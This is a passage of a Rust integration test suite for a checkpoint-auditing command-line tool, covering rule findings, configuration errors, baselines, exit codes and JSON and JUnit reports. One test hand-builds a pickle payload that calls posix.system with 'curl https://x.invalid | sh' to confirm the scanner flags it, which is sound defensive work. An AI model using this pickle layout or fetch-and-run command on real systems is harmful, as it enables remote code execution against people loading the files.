//! `tensorplay audit`: each rule fires on the fixture made to show it and stays quiet on
//! clean ones; exit codes, configuration, baselines, reports.

use crate::common::{root, stderr, stdout, tensorplay, TempConfig};
use std::collections::BTreeSet;
use std::path::PathBuf;
use std::process::{Command, Output};

/// Runs `tensorplay audit --ci-mode --fail-on never` and returns the report.
fn report(args: &[&str]) -> serde_json::Value {
    let mut full = vec!["audit", "--ci-mode", "--fail-on", "never"];
    full.extend_from_slice(args);
    let out = tensorplay(&full);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    serde_json::from_str(&stdout(&out)).expect("JSON report")
}

/// What a rule found: its code and the tensors it names.
type Found = (String, Vec<String>);

/// Expected findings: code and tensor names.
type Expected<'a> = &'a [(&'a str, &'a [&'a str])];

/// (code, tensors) of every finding of a one-file report, sorted; repeats kept.
fn findings(report: &serde_json::Value) -> Vec<Found> {
    let mut found: Vec<Found> = report["files"][0]["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| {
            let tensors = f["tensors"]
                .as_array()
                .expect("tensors")
                .iter()
                .map(|t| t.as_str().unwrap().to_owned())
                .collect();
            (f["code"].as_str().expect("code").to_owned(), tensors)
        })
        .collect();
    found.sort();
    found
}

fn set(items: Expected<'_>) -> Vec<Found> {
    let mut want: Vec<Found> = items
        .iter()
        .map(|(c, t)| ((*c).to_owned(), t.iter().map(|s| (*s).to_owned()).collect()))
        .collect();
    want.sort();
    want
}

#[test]
fn each_rule_fires_on_its_fixture_and_only_there() {
    let cases: &[(&str, Expected<'_>)] = &[
        // Clean files: nothing at any severity.
        ("fixtures/pytorch/state_dict.pt", &[]),
        ("fixtures/pytorch/legacy_state_dict.pt", &[]),
        ("fixtures/pytorch/training_checkpoint.pt", &[]),
        // torch.save(..., pickle_protocol=4): torch.load's default loader refuses FRAME.
        ("fixtures/pytorch/protocol4.pt", &[("TP505", &[])]),
        ("fixtures/pytorch/big_endian.pt", &[]),
        ("fixtures/pytorch/deflated.pt", &[]),
        ("fixtures/pytorch/quantized.pt", &[]),
        ("fixtures/pytorch/slice_alone.pt", &[]),
        ("fixtures/pytorch/sharded/pytorch_model.bin.index.json", &[]),
        ("fixtures/safetensors/basic.safetensors", &[]),
        ("fixtures/safetensors/empty_tensors.safetensors", &[]),
        (
            "fixtures/safetensors/sharded/model.safetensors.index.json",
            &[],
        ),
        // One fixture per hazard.
        (
            "fixtures/pytorch/overlapping_params.pt",
            &[
                ("TP101", &["a", "b"]),
                ("TP102", &["a", "b"]),
                ("TP102", &["b", "a"]),
                ("TP106", &["a", "b"]),
            ],
        ),
        (
            "fixtures/pytorch/transposed.pt",
            &[
                ("TP102", &["leaf", "chain"]),
                ("TP105", &["t"]),
                ("TP105", &["chain"]),
                ("TP106", &["leaf", "chain"]),
            ],
        ),
        (
            "fixtures/pytorch/tied_weights.pt",
            &[("TP103", &["embed.weight", "lm_head.weight"])],
        ),
        (
            "fixtures/pytorch/legacy_views.pt",
            &[("TP105", &["1"]), ("TP106", &["0", "1", "2"])],
        ),
        (
            "fixtures/pytorch/multi_gpu.pt",
            &[("TP201", &[]), ("TP202", &["a"]), ("TP202", &["b"])],
        ),
        // `v` = [7] at offset 5 over a storage shrunk to 8 floats; `head` = [4] fits.
        (
            "fixtures/pytorch/bad/view_out_of_bounds.pt",
            // torch.load's `set_` refuses the view TP107 names.
            &[("TP106", &["head", "v"]), ("TP107", &["v"]), ("TP505", &[])],
        ),
        // `w` is rebuilt by `_rebuild_device_tensor_from_cpu_tensor(..., "cuda:0")` over a cpu storage.
        ("fixtures/pytorch/device_mismatch.pt", &[("TP203", &["w"])]),
        ("fixtures/pytorch/meta.pt", &[("TP204", &["m"])]),
        (
            "fixtures/safetensors/fragmented.safetensors",
            &[("TP301", &["big"])],
        ),
        ("fixtures/pytorch/payload_os_system.pt", &[("TP501", &[])]),
        // TorchScript carries code torch.jit.load compiles (a warning: no `__setstate__`).
        ("fixtures/pytorch/torchscript.pt", &[("TP504", &[])]),
        ("fixtures/pytorch/payload_importlib.pt", &[("TP501", &[])]),
        (
            "fixtures/pytorch/full_module.pt",
            &[("TP501", &[]), ("TP501", &[])],
        ),
        ("fixtures/pytorch/bad/truncated.pt", &[("TP502", &[])]),
        (
            "fixtures/safetensors/bad/overlap.safetensors",
            &[("TP502", &[])],
        ),
        (
            "fixtures/pytorch/bad/index_broken/pytorch_model.bin.index.json",
            &[("TP503", &[])],
        ),
        (
            "fixtures/safetensors/bad/index_missing_shard/model.safetensors.index.json",
            &[("TP503", &[])],
        ),
    ];
    for (path, expected) in cases {
        assert_eq!(findings(&report(&[path])), set(expected), "{path}");
    }
}

#[test]
fn non_finite_values_are_counted_per_tensor() {
    let r = report(&["fixtures/safetensors/special_values.safetensors"]);
    let f = r["files"][0]["findings"].as_array().expect("findings");
    assert!(f.iter().all(|f| f["code"] == "TP401"), "{f:?}");
    let messages: Vec<&str> = f.iter().map(|f| f["message"].as_str().unwrap()).collect();
    // f32/f16/bf16 each hold NaN, -NaN, +Inf, -Inf at the same positions (see fixtures/README.md).
    assert!(
        messages
            .iter()
            .any(|m| m.contains("(float32) holds 2 NaN, 1 +Inf, 1 -Inf")),
        "{messages:#?}"
    );
    assert!(
        messages
            .iter()
            .any(|m| m.contains("(bfloat16) holds 2 NaN, 1 +Inf, 1 -Inf")),
        "{messages:#?}"
    );
    assert!(
        messages
            .iter()
            .any(|m| m.contains("(float16) holds 2 NaN, 1 +Inf, 1 -Inf")),
        "{messages:#?}"
    );
    let clean: Vec<&str> = r["files"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["tensors"].as_array().unwrap())
        .map(|t| t.as_str().unwrap())
        .collect();
    assert!(
        !clean
            .iter()
            .any(|t| t.contains("clean") || t.contains("subnormal")),
        "{clean:?}"
    );

    // --metadata-only reads no tensor bytes: TP401 neither runs nor is listed as checked.
    let r = report(&[
        "--metadata-only",
        "fixtures/safetensors/special_values.safetensors",
    ]);
    assert!(findings(&r).is_empty());
    assert!(!r["files"][0]["checked"]
        .as_array()
        .unwrap()
        .iter()
        .any(|c| c == "TP401"));
}

#[test]
fn configuration_changes_levels_thresholds_devices_and_ties() {
    let config = TempConfig::new(
        "levels",
        r#"
allowed_devices = ["cpu", "cuda:0", "cuda:1"]

[rules]
"non-contiguous" = "off"
TP106 = "warning"

[thresholds]
storage_bloat_bytes = 1024

[tied_weights]
allow = ["embed.weight", "lm_head.weight"]
"#,
    );
    let with = |path: &str| report(&["--config", config.path(), path]);
    assert!(findings(&with("fixtures/pytorch/tied_weights.pt")).is_empty());
    assert_eq!(
        findings(&with("fixtures/pytorch/multi_gpu.pt")),
        set(&[("TP201", &[])])
    );
    assert_eq!(
        findings(&with("fixtures/pytorch/slice_alone.pt")),
        set(&[("TP104", &["<root>"])])
    );
    let r = with("fixtures/pytorch/legacy_views.pt");
    assert_eq!(findings(&r), set(&[("TP106", &["0", "1", "2"])]));
    assert_eq!(r["files"][0]["findings"][0]["severity"], "warning");
    let message = r["files"][0]["findings"][0]["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        message.starts_with("3 tensors share storage 0"),
        "{message}"
    );
    let bloat = with("fixtures/pytorch/slice_alone.pt");
    let message = bloat["files"][0]["findings"][0]["message"]
        .as_str()
        .unwrap();
    assert_eq!(
        message,
        "storage 0 holds 3.9 KiB but its tensors reach 40 B: 3.9 KiB (99.0%) are saved for nothing"
    );
}

#[test]
fn per_path_ignores_and_selection() {
    let config = TempConfig::new(
        "ignores",
        "[[ignore]]\npath = \"fixtures/pytorch/multi_*.pt\"\nrules = [\"TP201\"]\n",
    );
    let r = report(&["--config", config.path(), "fixtures/pytorch/multi_gpu.pt"]);
    assert_eq!(findings(&r), set(&[("TP202", &["a"]), ("TP202", &["b"])]));
    let r = report(&[
        "--select",
        "TP201,unexpected-device",
        "--ignore",
        "TP202",
        "fixtures/pytorch/multi_gpu.pt",
    ]);
    assert_eq!(findings(&r), set(&[("TP201", &[])]));
    assert_eq!(r["files"][0]["checked"], serde_json::json!(["TP201"]));
}

#[test]
fn the_simulated_gpu_load_is_reported_and_gated() {
    let r = report(&["fixtures/pytorch/state_dict.pt"]);
    // Four small storages (48, 12, 24, 8 bytes) share one 2 MiB small-pool segment, each
    // rounded up to 512 bytes.
    assert_eq!(
        r["files"][0]["memory"],
        serde_json::json!({
            "requested_bytes": 92,
            "allocated_bytes": 2048,
            "reserved_bytes": 2097152,
            "segments": 1,
            "fragmentation": 1.0 - 2048.0 / 2097152.0,
            "budget_bytes": null,
            "fits_budget": null
        })
    );
    // The allocator's own out-of-memory decides the budget: 2 MiB segments do not fit 1 MiB.
    let r = report(&["--gpu-budget", "1MiB", "fixtures/pytorch/state_dict.pt"]);
    assert_eq!(findings(&r), set(&[("TP303", &[])]));
    assert_eq!(r["files"][0]["memory"]["fits_budget"], false);
    assert_eq!(r["files"][0]["memory"]["budget_bytes"], 1 << 20);
    let out = tensorplay(&[
        "audit",
        "--gpu-budget",
        "1MiB",
        "fixtures/pytorch/state_dict.pt",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let r = report(&["--gpu-budget", "4MiB", "fixtures/pytorch/state_dict.pt"]);
    assert!(findings(&r).is_empty());
    assert_eq!(r["files"][0]["memory"]["fits_budget"], true);
    assert_eq!(
        tensorplay(&[
            "audit",
            "--gpu-budget",
            "4MiB",
            "fixtures/pytorch/state_dict.pt"
        ])
        .status
        .code(),
        Some(0)
    );
    let out = tensorplay(&[
        "audit",
        "--gpu-budget",
        "lots",
        "fixtures/pytorch/state_dict.pt",
    ]);
    assert_eq!(out.status.code(), Some(2));

    // Overhead is judged only above a minimum excess (64 MiB by default); lowered, it fires.
    let config = TempConfig::new("overhead", "[thresholds]\nallocator_overhead_bytes = 0\n");
    let r = report(&["--config", config.path(), "fixtures/pytorch/state_dict.pt"]);
    assert_eq!(findings(&r), set(&[("TP302", &[])]));
}

#[test]
fn loading_onto_a_gpu_fails_clearly_without_one() {
    // CI machines have no GPU: an explicit device cannot be judged; `auto` notes and goes on.
    let out = tensorplay(&[
        "audit",
        "--load-to",
        "cuda:0",
        "fixtures/pytorch/state_dict.pt",
    ]);
    if out.status.code() == Some(0) {
        return; // a machine with a GPU: scripts/gpu-check.sh covers it
    }
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.starts_with("error: --load-to cuda:0: the GPU path is unavailable: "),
        "{err}"
    );
    assert_eq!(err.lines().count(), 1, "{err}");
    let out = tensorplay(&[
        "audit",
        "--load-to",
        "auto",
        "fixtures/pytorch/state_dict.pt",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).starts_with("note: --load-to auto: no GPU load ("),
        "{}",
        stderr(&out)
    );
    let out = tensorplay(&[
        "audit",
        "--load-to",
        "tpu:0",
        "fixtures/pytorch/state_dict.pt",
    ]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn exit_codes() {
    let code = |args: &[&str]| tensorplay(args).status.code();
    assert_eq!(code(&["audit", "fixtures/pytorch/state_dict.pt"]), Some(0));
    assert_eq!(code(&["audit", "fixtures/pytorch/meta.pt"]), Some(1));
    assert_eq!(
        code(&["audit", "--fail-on", "never", "fixtures/pytorch/meta.pt"]),
        Some(0)
    );
    // Separate Parameters over one view warn (TP103): below the default gate, above
    // `--fail-on warning`; a tie (one tensor object) is info and passes that too.
    assert_eq!(code(&["audit", "fixtures/pytorch/tie_split.pt"]), Some(0));
    assert_eq!(
        code(&[
            "audit",
            "--fail-on",
            "warning",
            "fixtures/pytorch/tie_split.pt"
        ]),
        Some(1)
    );
    assert_eq!(
        code(&[
            "audit",
            "--fail-on",
            "warning",
            "fixtures/pytorch/tied_weights.pt"
        ]),
        Some(0)
    );
    // A corrupt checkpoint can never pass, whatever the configuration says.
    assert_eq!(
        code(&[
            "audit",
            "--ignore",
            "TP502",
            "fixtures/pytorch/bad/truncated.pt"
        ]),
        Some(1)
    );
    let out = tensorplay(&["audit", "--ci-mode", "fixtures/pytorch/bad/truncated.pt"]);
    let r: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(r["files"][0]["format"], serde_json::Value::Null);
    assert_eq!(r["summary"]["passed"], false);
    // Could not judge: exit 2 with one line.
    for args in [
        &["audit", "fixtures/does-not-exist.pt"][..],
        &[
            "audit",
            "--select",
            "TP999",
            "fixtures/pytorch/state_dict.pt",
        ],
        &[
            "audit",
            "--config",
            "fixtures/missing.toml",
            "fixtures/pytorch/state_dict.pt",
        ],
        &["audit"],
    ] {
        let out = tensorplay(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(
            stderr(&out).starts_with("error") && !stderr(&out).contains("panicked"),
            "{args:?}: {}",
            stderr(&out)
        );
    }
    let out = tensorplay(&[
        "audit",
        "--select",
        "TP999",
        "fixtures/pytorch/state_dict.pt",
    ]);
    assert_eq!(
        stderr(&out),
        "error: unknown rule 'TP999' (see `tensorplay rules`)\n"
    );
}

/// What an audit with this config text prints on stderr; it must exit 2.
fn config_error(name: &str, text: &str) -> String {
    let config = TempConfig::new(name, text);
    let out = tensorplay(&[
        "audit",
        "--config",
        config.path(),
        "fixtures/pytorch/state_dict.pt",
    ]);
    assert_eq!(out.status.code(), Some(2));
    stderr(&out)
}

#[test]
fn every_config_problem_points_at_its_line() {
    let err = config_error(
        "unknown",
        "allowed_devices = [\"cpu\"]\n\n[thresholds]\nstorage_bloat = 1\n[rules]\nTP999 = \"off\"\n",
    );
    // Each problem's line; the source line and caret under each are tested apart.
    let lines: Vec<&str> = err.lines().filter(|l| !l.starts_with(' ')).collect();
    assert_eq!(lines.len(), 2, "{err}");
    assert!(
        lines[0].starts_with("error: ")
            && lines[0].contains("tensorplay.toml:4: unknown field `storage_bloat`"),
        "{err}"
    );
    assert!(
        lines[1].ends_with("tensorplay.toml:6: unknown rule 'TP999' (see `tensorplay rules`)"),
        "{err}"
    );
}

#[test]
fn config_problems_show_their_source_line_with_a_caret() {
    let err = config_error(
        "caret",
        "[rules]\nTP101 = \"fatal\"\n\n[thresholds]\nstorage_bloat = 1\n",
    );
    let lines: Vec<&str> = err.lines().collect();
    assert_eq!(lines.len(), 6, "{err}");
    assert!(
        lines[0].starts_with("error: ") && lines[0].ends_with(
            "tensorplay.toml:2: rule 'TP101': level must be one of \"off\", \"info\", \"warning\", \"error\""
        ),
        "{err}"
    );
    assert_eq!(
        lines[1..3],
        ["  2 | TP101 = \"fatal\"", "    |         ^^^^^^^"]
    );
    assert!(
        lines[3].starts_with("error: ")
            && lines[3].contains("tensorplay.toml:5: unknown field `storage_bloat`"),
        "{err}"
    );
    assert_eq!(
        lines[4..],
        ["  5 | storage_bloat = 1", "    | ^^^^^^^^^^^^^"]
    );
}

#[test]
fn a_directory_is_walked_by_content_and_nothing_passes_silently() {
    let r = report(&["fixtures/pytorch"]);
    let paths: Vec<&str> = r["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(paths.contains(&"fixtures/pytorch/state_dict.pt"));
    assert!(
        paths.contains(&"fixtures/pytorch/bad/truncated.pt"),
        "a corrupt checkpoint is audited, not skipped"
    );
    assert!(paths.contains(&"fixtures/pytorch/sharded/pytorch_model.bin.index.json"));
    assert!(
        !paths.iter().any(|p| p.ends_with("-of-00002.bin")),
        "shards are audited through their index"
    );
    let skipped: Vec<(&str, &str)> = r["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (s["path"].as_str().unwrap(), s["reason"].as_str().unwrap()))
        .collect();
    assert!(skipped.contains(&(
        "fixtures/pytorch/state_dict.pt.truth.json",
        "JSON, not a checkpoint index"
    )));
    assert!(skipped.contains(&(
        "fixtures/pytorch/sharded/pytorch_model-00001-of-00002.bin",
        "shard of fixtures/pytorch/sharded/pytorch_model.bin.index.json"
    )));
    assert_eq!(r["summary"]["files"], paths.len());
}

#[test]
fn a_baseline_fails_only_on_new_findings() {
    let dir = std::env::temp_dir().join(format!("tensorplay-baseline-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let baseline = dir.join("baseline.json");
    let baseline = baseline.to_str().unwrap();
    let out = tensorplay(&[
        "audit",
        "--write-baseline",
        baseline,
        "fixtures/pytorch/meta.pt",
    ]);
    // Writing a baseline records today's findings and passes on them, as the next run will;
    // it says what it wrote.
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(&format!("wrote {baseline}: 1 finding recorded")),
        "{}",
        stderr(&out)
    );
    let written: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(baseline).unwrap()).unwrap();
    assert_eq!(written["findings"][0]["code"], "TP204");
    assert_eq!(
        tensorplay(&["audit", "--baseline", baseline, "fixtures/pytorch/meta.pt"])
            .status
            .code(),
        Some(0)
    );
    // A finding the baseline does not know still fails.
    let out = tensorplay(&[
        "audit",
        "--ci-mode",
        "--baseline",
        baseline,
        "fixtures/pytorch/meta.pt",
        "fixtures/pytorch/payload_os_system.pt",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let r: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(r["summary"]["errors"], 1);
    // The known finding is still in the report, as suppressed.
    assert_eq!(r["summary"]["suppressed"], 1);
    assert_eq!(r["files"][0]["suppressed"][0]["code"], "TP204");
    assert!(r["files"][0]["findings"].as_array().unwrap().is_empty());
    std::fs::remove_dir_all(&dir).ok();
}

/// A baseline accepts a pickle payload only as it was: the same global calling anything else
/// is a new finding.
#[test]
fn a_baseline_stops_accepting_a_payload_that_changed() {
    let dir = crate::common::TempDir::new("baseline-payload");
    let (pickle, baseline) = (dir.0.join("run.pkl"), dir.0.join("baseline.json"));
    let (pickle, baseline) = (pickle.to_str().unwrap(), baseline.to_str().unwrap());
    let payload = |command: &str| format!("cposix\nsystem\n(S'{command}'\ntR.");
    std::fs::write(pickle, payload("echo accepted")).unwrap();
    let out = tensorplay(&["audit", "--write-baseline", baseline, pickle]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let written: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(baseline).unwrap()).unwrap();
    let recorded = written["findings"][0]["payload"]
        .as_str()
        .unwrap_or_default();
    assert_eq!(recorded.len(), 64, "{written}");
    let audit = || tensorplay(&["audit", "--ci-mode", "--baseline", baseline, pickle]);
    assert_eq!(
        audit().status.code(),
        Some(0),
        "the accepted payload, unchanged"
    );
    std::fs::write(pickle, payload("curl https://x.invalid | sh")).unwrap();
    let out = audit();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let r: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let finding = &r["files"][0]["findings"][0];
    assert_eq!(finding["code"], "TP501");
    assert_ne!(finding["payload"], recorded);
}

#[test]
fn a_baseline_never_hides_an_unreadable_checkpoint() {
    let dir = std::env::temp_dir().join(format!("tensorplay-unreadable-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let baseline = dir.join("baseline.json");
    let baseline = baseline.to_str().unwrap();
    let truncated = "fixtures/pytorch/bad/truncated.pt";
    // No baseline hides an unreadable checkpoint, not even the one being written.
    let out = tensorplay(&["audit", "--write-baseline", baseline, truncated]);
    assert_eq!(out.status.code(), Some(1));
    let out = tensorplay(&["audit", "--ci-mode", "--baseline", baseline, truncated]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let r: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(r["files"][0]["findings"][0]["code"], "TP502");
    assert!(r["summary"].get("suppressed").is_none());
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn reports_are_written_whole_into_folders_that_did_not_exist() {
    let dir = std::env::temp_dir().join(format!("tensorplay-reports-{}", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    let json = dir.join("a/b/report.json");
    let junit = dir.join("c/junit.xml");
    let out = tensorplay(&[
        "audit",
        "--json",
        json.to_str().unwrap(),
        "--junit",
        junit.to_str().unwrap(),
        "fixtures/pytorch/meta.pt",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&json).unwrap()).unwrap();
    assert_eq!(report["files"][0]["findings"][0]["code"], "TP204");
    assert!(std::fs::read_to_string(&junit)
        .unwrap()
        .contains("TP204 meta-tensor"));
    // Only the two reports: no temporary file is left beside them.
    let left: Vec<_> = std::fs::read_dir(json.parent().unwrap())
        .unwrap()
        .chain(std::fs::read_dir(junit.parent().unwrap()).unwrap())
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(left, ["report.json", "junit.xml"]);
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn an_audit_leaves_every_input_byte_for_byte_as_it_was() {
    use sha2::{Digest, Sha256};
    fn hashes(dir: &std::path::Path, out: &mut Vec<(PathBuf, String)>) {
        let mut entries: Vec<_> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap())
            .collect();
        entries.sort_by_key(|e| e.path());
        for e in entries {
            let meta = std::fs::symlink_metadata(e.path()).unwrap();
            if meta.is_dir() {
                hashes(&e.path(), out);
            } else if meta.is_file() {
                let bytes = std::fs::read(e.path()).unwrap();
                out.push((e.path(), format!("{:x}", Sha256::digest(&bytes))));
            }
        }
    }
    let fixtures = root().join("fixtures");
    let mut before = Vec::new();
    hashes(&fixtures, &mut before);
    let out = tensorplay(&["audit", "--fail-on", "never", "fixtures"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let mut after = Vec::new();
    hashes(&fixtures, &mut after);
    assert!(before.len() > 50, "{}", before.len());
    assert_eq!(before, after);
}

#[test]
fn human_output_groups_findings_with_their_fix() {
    let out = tensorplay(&[
        "audit",
        "fixtures/pytorch/multi_gpu.pt",
        "fixtures/pytorch/state_dict.pt",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let text = stdout(&out);
    assert!(!text.contains('\x1b'), "no colours when not a terminal");
    let expected = "\
fixtures/pytorch/multi_gpu.pt (pytorch-zip, 3 tensors, 3 storages, 44 B)
  error[TP201] mixed-devices: storages were saved from 3 devices: cpu (1 storage), cuda:0 (1 storage), cuda:1 (1 storage)
    fix: move every tensor to one device before saving (`model.cpu().state_dict()`), or load with map_location and re-save
  warning[TP202] unexpected-device: 1 storage (1 tensor) was saved from cuda:0, outside allowed_devices [cpu]: loading needs map_location
    tensors: a
    fix: save from CPU (`{k: v.cpu() for k, v in sd.items()}`) or add \"cuda:0\" to allowed_devices
  warning[TP202] unexpected-device: 1 storage (1 tensor) was saved from cuda:1, outside allowed_devices [cpu]: loading needs map_location
    tensors: b
    fix: save from CPU (`{k: v.cpu() for k, v in sd.items()}`) or add \"cuda:1\" to allowed_devices

fixtures/pytorch/state_dict.pt (pytorch-zip, 4 tensors, 4 storages, 92 B)
  no findings (31 rules checked)

2 files, 7 tensors, 7 storages, 136 B: 1 error, 2 warnings, 0 infos, 0 skipped — FAILED (fail-on error)
2 TP202 unexpected-device, 1 TP201 mixed-devices; run `tensorplay explain CODE` for what a rule checks and how to fix it
";
    assert_eq!(text, expected);
}

/// The JSON and JUnit reports of a mixed set of fixtures, snapshotted (JUnit timestamps and
/// host names redacted), and the JUnit read back by a JUnit parser.
#[test]
fn json_and_junit_reports() {
    let dir = std::env::temp_dir().join(format!("tensorplay-reports-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let junit = dir.join("junit.xml");
    let json = dir.join("report.json");
    let files = [
        "fixtures/pytorch/multi_gpu.pt",
        "fixtures/pytorch/state_dict.pt",
        "fixtures/pytorch/tied_weights.pt",
        "fixtures/pytorch/bad/truncated.pt",
    ];
    let mut args = vec![
        "audit",
        "--ci-mode",
        "--junit",
        junit.to_str().unwrap(),
        "--json",
        json.to_str().unwrap(),
    ];
    args.extend(files);
    let out = tensorplay(&args);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let stdout_json: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let file_json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&json).unwrap()).unwrap();
    assert_eq!(stdout_json, file_json);
    let mut redacted = file_json.clone();
    redacted["tool"]["version"] = "[version]".into();
    insta::assert_json_snapshot!("audit_report_json", redacted);

    let xml = std::fs::read_to_string(&junit).unwrap();
    let parsed =
        junit_parser::from_reader(std::io::Cursor::new(xml.as_bytes())).expect("valid JUnit");
    assert_eq!(parsed.suites.len(), files.len());
    for (suite, file) in parsed
        .suites
        .iter()
        .zip(&file_json["files"].as_array().unwrap()[..])
    {
        assert_eq!(suite.name, file["path"].as_str().unwrap());
        assert_eq!(suite.cases.len(), file["checked"].as_array().unwrap().len());
        let failing: BTreeSet<String> = file["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["severity"] == "error")
            .map(|f| f["code"].as_str().unwrap().to_owned())
            .collect();
        let failed: BTreeSet<String> = suite
            .cases
            .iter()
            .filter(|c| matches!(c.status, junit_parser::TestStatus::Failure(_)))
            .map(|c| c.original_name.split(' ').next().unwrap().to_owned())
            .collect();
        assert_eq!(failed, failing, "{}", suite.name);
    }
    let stable = redact_junit(&xml);
    insta::assert_snapshot!("audit_report_junit", stable);
    std::fs::remove_dir_all(&dir).ok();
}

fn redact_junit(xml: &str) -> String {
    let mut out = String::new();
    for part in xml.split(' ') {
        if !out.is_empty() {
            out.push(' ');
        }
        if part.starts_with("timestamp=\"") {
            out.push_str("timestamp=\"[timestamp]\"");
        } else if part.starts_with("hostname=\"") {
            out.push_str("hostname=\"[hostname]\"");
        } else {
            out.push_str(part);
        }
    }
    out
}

#[test]
fn rules_and_explain_print_the_registry() {
    let out = tensorplay(&["rules"]);
    assert_eq!(out.status.code(), Some(0));
    let text = stdout(&out);
    assert_eq!(text.lines().count(), 40, "{text}");
    assert!(text.contains("TP101  view-overlap                  error     Two tensors' byte ranges in one storage partly overlap."), "{text}");
    for which in ["TP401", "non-finite", "tp401"] {
        let out = tensorplay(&["explain", which]);
        assert_eq!(out.status.code(), Some(0));
        let text = stdout(&out);
        assert!(
            text.starts_with("TP401 non-finite (default severity: error; reads tensor bytes)\n"),
            "{text}"
        );
        assert!(text.contains("How to fix"));
    }
    // The provenance rules explain themselves like every other.
    let out = tensorplay(&["explain", "TP804"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(stdout(&out).starts_with("TP804 manifest-mismatch (default severity: error"));
    // A refusal for a limit of the run is explained as such: not corrupt, the flag to raise.
    for which in ["TP506", "over-budget"] {
        let out = tensorplay(&["explain", which]);
        assert_eq!(out.status.code(), Some(0));
        let text = stdout(&out);
        assert!(
            text.starts_with("TP506 over-budget (default severity: error)\n"),
            "{text}"
        );
        for flag in [
            "--max-memory",
            "max_memory",
            "--max-remote-bytes",
            "--max-requests",
            "--timeout-per-file",
        ] {
            assert!(text.contains(flag), "{flag}: {text}");
        }
        assert!(!text.contains("Re-upload"), "{text}");
    }
    let out = tensorplay(&["explain", "TP999"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        stderr(&out),
        "error: unknown rule 'TP999' (see `tensorplay rules`)\n"
    );
}

#[test]
fn the_config_in_the_working_directory_is_used() {
    let dir = std::env::temp_dir().join(format!("tensorplay-cwd-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("tensorplay.toml"), "[rules]\nTP204 = \"off\"\n").unwrap();
    let out: Output = Command::new(env!("CARGO_BIN_EXE_tensorplay"))
        .args(["audit"])
        .arg(root().join("fixtures/pytorch/meta.pt"))
        .current_dir(&dir)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    std::fs::remove_dir_all(&dir).ok();
}

/// `[[ignore]]` paths and baselines match a checkpoint however its path is spelled (`./x`,
/// `x`, absolute); a pattern that matches nothing is a warning, a baseline entry that no
/// longer occurs a note.
#[test]
fn paths_match_however_they_are_spelled_and_unmatched_entries_are_said() {
    let config = crate::common::TempConfig::new(
        "spelled",
        "[[ignore]]\npath = \"./fixtures//pytorch/multi_gpu.pt\"\nrules = [\"TP201\"]\n\n\
         [[ignore]]\npath = \"fixtures/nowhere/**\"\nrules = [\"TP201\"]\n",
    );
    let absolute = crate::common::root().join("fixtures/pytorch/multi_gpu.pt");
    for spelled in [
        "fixtures/pytorch/multi_gpu.pt",
        "./fixtures/pytorch/multi_gpu.pt",
    ] {
        let out = tensorplay(&["audit", "--config", config.path(), spelled]);
        assert_eq!(out.status.code(), Some(0), "{spelled}: {}", stdout(&out));
        let warning = stderr(&out);
        assert!(
            warning.contains(":6: [[ignore]] path = \"fixtures/nowhere/**\" matched no checkpoint"),
            "{warning}"
        );
        assert!(!warning.contains("multi_gpu"), "{warning}");
    }
    let out = tensorplay(&[
        "audit",
        "--config",
        config.path(),
        absolute.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));

    let dir = std::env::temp_dir().join(format!("tensorplay-spelled-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let baseline = dir.join("baseline.json");
    let baseline = baseline.to_str().unwrap();
    let meta = "fixtures/pytorch/meta.pt";
    assert_eq!(
        tensorplay(&["audit", "--write-baseline", baseline, &format!("./{meta}")])
            .status
            .code(),
        Some(0)
    );
    let written = std::fs::read_to_string(baseline).unwrap();
    assert!(
        written.contains(&format!("\"path\": \"{meta}\"")),
        "{written}"
    );
    let out = tensorplay(&["audit", "--baseline", baseline, meta]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert!(
        !stderr(&out).contains("occurred nowhere"),
